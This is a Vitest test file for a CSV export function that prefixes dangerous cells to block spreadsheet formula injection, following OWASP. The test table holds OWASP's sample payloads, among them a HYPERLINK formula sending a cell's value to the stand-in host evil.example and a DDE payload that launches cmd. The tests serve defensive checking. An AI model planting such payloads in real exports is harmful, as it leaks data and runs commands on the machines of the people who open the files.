/**
 * CSV export against spreadsheet formula injection. Source: OWASP, "CSV Injection" — cells
 * beginning with =, +, -, @, tab (0x09) or carriage return (0x0D) are prefixed with a single
 * quote; the examples are OWASP's (=HYPERLINK, @SUM, a DDE payload). Quoting per RFC 4180 §2.
 */
import { describe, expect, it } from "vitest";
import { csvField, toCsv } from "../../src/service/csv.ts";

describe("csvField", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Error: click here")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Error: click here"")"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
  ])("defuses %j", (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it("leaves numbers, ordinary text and inner signs alone, and quotes per RFC 4180", () => {
    expect(csvField(-0.25)).toBe("-0.25");
    expect(csvField(3)).toBe("3");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("Book, now")).toBe('"Book, now"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(null)).toBe("");
    expect(toCsv(["a", "b"], [["=1", -1]])).toBe("a,b\r\n'=1,-1\r\n");
  });
});
